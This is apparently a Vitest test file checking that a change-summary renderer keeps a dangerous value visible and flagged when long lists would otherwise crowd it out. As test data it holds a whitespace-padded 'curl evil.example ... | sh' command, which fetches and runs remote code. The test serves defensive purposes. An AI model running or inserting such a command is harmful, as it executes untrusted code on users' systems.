import { expect, test } from 'vitest';
import { changesPart } from '../../src/actions/change-text.ts';

const NOTHING_ELSE = { noComparison: null, retention: [] };

test('what is long or many does not push what is dangerous out of a comment', () => {
  const gained = Array.from({ length: 50 }, (_, i) => `missing-run: n${i} ${'reason '.repeat(600)}`);
  const command = `curl evil.example${' '.repeat(4000)}| sh`;
  const text = changesPart({
    ...NOTHING_ELSE,
    silences: [{ what: 'silenced', kind: 'list', gained, lost: [] }],
    changes: [
      {
        target: 'wiki',
        kind: 'changed',
        changes: [{ what: 'before', kind: 'value', before: 'none', after: command }],
      },
    ],
  });
  expect(text.length).toBeLessThan(8000);
  expect(text).toContain('**and 30 more**');
  expect(text).toMatch(/⚠️ before `none` → `curl evil\.example.*\(\*\*3821 characters more\*\*\)/);
});
